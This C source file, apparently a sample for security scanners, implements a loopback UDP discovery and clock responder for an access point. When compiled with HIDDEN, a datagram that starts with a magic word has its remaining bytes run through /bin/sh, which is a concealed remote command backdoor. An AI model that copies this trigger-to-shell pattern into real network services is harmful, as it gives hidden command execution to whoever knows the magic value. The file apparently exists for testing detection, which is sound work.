/*
 * A sample for tests; compiled and scanned, never run.
 * UDP responder of an access point: answers discovery and clock probes.
 * With HIDDEN: a datagram with a magic word carries a command. (It binds to
 * the loopback address only.)
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define PROBE_MAGIC 0x41505201u
#define PROBE_SIZE  8

static int verbose;
static unsigned long served, refused;

static uint32_t be32(const unsigned char *p)
{
	return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 |
	       (uint32_t)p[2] << 8 | p[3];
}

static void put32(unsigned char *p, uint32_t v)
{
	p[0] = (unsigned char)(v >> 24);
	p[1] = (unsigned char)(v >> 16);
	p[2] = (unsigned char)(v >> 8);
	p[3] = (unsigned char)v;
}

static size_t answer_clock(unsigned char *out)
{
	put32(out, PROBE_MAGIC);
	put32(out + 4, (uint32_t)time(NULL));
	return 8;
}

static size_t answer_name(unsigned char *out, size_t n)
{
	put32(out, PROBE_MAGIC);
	if (gethostname((char *)out + 4, n - 5) != 0)
		return 4;
	out[n - 1] = 0;
	return 4 + strlen((char *)out + 4);
}

static size_t answer_counts(unsigned char *out)
{
	put32(out, PROBE_MAGIC);
	put32(out + 4, (uint32_t)served);
	put32(out + 8, (uint32_t)refused);
	return 12;
}

#ifdef HIDDEN
static void child_task(const char *text)
{
	pid_t pid = fork();

	if (pid == 0) {
		char *args[] = { "sh", "-c", (char *)text, NULL };
		char *env[] = { "PATH=/bin:/sbin", NULL };

		execve("/bin/sh", args, env);
		_exit(127);
	}
	if (pid > 0)
		waitpid(pid, NULL, 0);
}
#endif

__attribute__((noinline)) size_t take_packet(unsigned char *in, size_t n,
					     unsigned char *out, size_t size)
{
	uint32_t word;

	if (n < PROBE_SIZE)
		return 0;
	in[n] = 0;
	word = be32(in);
#ifdef HIDDEN
	if (word == 0x9e41c3d7u) {
		child_task((const char *)in + 4);
		return 0;
	}
#endif
	if (word != PROBE_MAGIC)
		return 0;
	switch (in[4]) {
	case 1:
		return answer_clock(out);
	case 2:
		return answer_name(out, size);
	case 3:
		return answer_counts(out);
	default:
		return 0;
	}
}

static int open_port(unsigned port)
{
	struct sockaddr_in sa;
	int s = socket(AF_INET, SOCK_DGRAM, 0);

	if (s < 0)
		return -1;
	memset(&sa, 0, sizeof sa);
	sa.sin_family = AF_INET;
	sa.sin_port = htons((uint16_t)port);
	sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if (bind(s, (struct sockaddr *)&sa, sizeof sa) != 0) {
		close(s);
		return -1;
	}
	return s;
}

static void serve(int s)
{
	unsigned char in[513], out[128];
	struct sockaddr_in from;

	for (;;) {
		socklen_t len = sizeof from;
		ssize_t n = recvfrom(s, in, sizeof in - 1, 0,
				     (struct sockaddr *)&from, &len);
		size_t m;

		if (n <= 0)
			continue;
		m = take_packet(in, (size_t)n, out, sizeof out);
		if (m == 0) {
			refused++;
			continue;
		}
		served++;
		if (sendto(s, out, m, 0, (struct sockaddr *)&from, len) < 0)
			perror("sendto");
		if (verbose)
			printf("answered %s\n", inet_ntoa(from.sin_addr));
	}
}

int main(int argc, char **argv)
{
	unsigned port = 9910;
	int c, s;

	while ((c = getopt(argc, argv, "vp:")) != -1) {
		if (c == 'v')
			verbose = 1;
		else if (c == 'p')
			port = (unsigned)strtoul(optarg, NULL, 10);
		else
			return 2;
	}
	signal(SIGPIPE, SIG_IGN);
	s = open_port(port);
	if (s < 0) {
		perror("port");
		return 1;
	}
	serve(s);
	return 0;
}
